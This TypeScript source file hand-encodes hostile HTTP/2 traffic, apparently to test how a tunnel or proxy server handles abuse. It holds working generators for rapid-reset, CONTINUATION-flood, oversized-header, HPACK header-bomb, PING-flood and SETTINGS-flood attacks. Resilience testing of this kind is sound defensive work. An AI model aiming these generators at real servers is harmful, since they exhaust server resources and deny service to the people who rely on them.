// What `hostile.ts` writes into a tunnel: HTTP/2 by hand, as no client writes it.

import type { Trick } from "../hostile_job.ts";

const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const CONTINUATION = 9;
const END_HEADERS = 4;

/** Far beyond any budget, and small beside what a machine can send. */
const FLOOD = 20_000;
/** More requests that are refused than a budget may have room for. */
const BOMBS = 12_000;
const LONG_VALUE = 4_000;
const MEGABYTE = 1 << 20;
/** Largest frame payload before SETTINGS say otherwise. */
const FRAME_MAX = 16_384;
/** HPACK: the newest entry of the dynamic table. */
const NEWEST_ENTRY = 0xbe;

export function* trickOctets(
  trick: Trick,
  authority: string,
): Generator<Uint8Array> {
  if (trick === "silence") return;
  if (trick === "noise") {
    yield crypto.getRandomValues(new Uint8Array(FRAME_MAX));
    return;
  }
  yield ascii(PREFACE);
  yield frame(SETTINGS, 0, 0, new Uint8Array(0));
  yield* tricks[trick](authority);
}

const tricks: Record<
  Exclude<Trick, "silence" | "noise">,
  (authority: string) => Iterable<Uint8Array>
> = {
  *"rapid-reset"(authority) {
    const block = connectBlock(authority);
    for (let id = 1; id < 2 * FLOOD; id += 2) {
      yield frame(HEADERS, END_HEADERS, id, block);
      yield frame(RST_STREAM, 0, id, Uint8Array.of(0, 0, 0, 8));
    }
  },
  *"continuation"(authority) {
    yield frame(HEADERS, 0, 1, connectBlock(authority));
    for (let count = 0; count < FLOOD; count++) {
      yield frame(CONTINUATION, 0, 1, new Uint8Array(0));
    }
  },
  *"long-headers"(authority) {
    yield frame(HEADERS, 0, 1, connectBlock(authority));
    const part = literal("x-long", "x".repeat(LONG_VALUE));
    for (let sent = 0; sent < MEGABYTE; sent += part.length) {
      yield frame(CONTINUATION, 0, 1, part);
    }
  },
  *"header-bomb"(authority) {
    const seed = indexed(literal("x-bomb", "x".repeat(LONG_VALUE)));
    for (let id = 1; id < 2 * BOMBS; id += 2) {
      const head = id === 1
        ? join(connectBlock(authority), seed)
        : connectBlock(authority);
      const bomb = new Uint8Array(FRAME_MAX - head.length).fill(NEWEST_ENTRY);
      yield frame(HEADERS, END_HEADERS, id, join(head, bomb));
    }
  },
  *"ping-flood"() {
    for (let count = 0; count < FLOOD; count++) {
      yield frame(PING, 0, 0, new Uint8Array(8));
    }
  },
  *"settings-flood"() {
    for (let count = 0; count < FLOOD; count++) {
      yield frame(SETTINGS, 0, 0, new Uint8Array(0));
    }
  },
};

function connectBlock(authority: string): Uint8Array {
  return join(literal(":method", "CONNECT"), literal(":authority", authority));
}

/** HPACK: a field with a new name, not indexed (RFC 7541, section 6.2.2). */
function literal(name: string, value: string): Uint8Array {
  return join(
    Uint8Array.of(0),
    join(hpackString(name), hpackString(value)),
  );
}

/** The same field, kept in the table (section 6.2.1). */
function indexed(field: Uint8Array): Uint8Array {
  const kept = field.slice();
  kept[0] = 0x40;
  return kept;
}

function hpackString(text: string): Uint8Array {
  const octets = ascii(text);
  return join(hpackInteger(octets.length), octets);
}

/** An integer with a prefix of seven bits (section 5.1). */
function hpackInteger(value: number): Uint8Array {
  if (value < 127) return Uint8Array.of(value);
  const octets = [127];
  let rest = value - 127;
  for (; rest >= 128; rest >>>= 7) octets.push(rest & 127 | 128);
  return Uint8Array.from([...octets, rest]);
}

function frame(
  type: number,
  flags: number,
  stream: number,
  payload: Uint8Array,
): Uint8Array {
  const header = new Uint8Array(9);
  const view = new DataView(header.buffer);
  view.setUint32(0, payload.length << 8 | type);
  view.setUint8(4, flags);
  view.setUint32(5, stream);
  return join(header, payload);
}

function join(a: Uint8Array, b: Uint8Array): Uint8Array {
  const joined = new Uint8Array(a.length + b.length);
  joined.set(a);
  joined.set(b, a.length);
  return joined;
}

const ascii = (text: string): Uint8Array => new TextEncoder().encode(text);
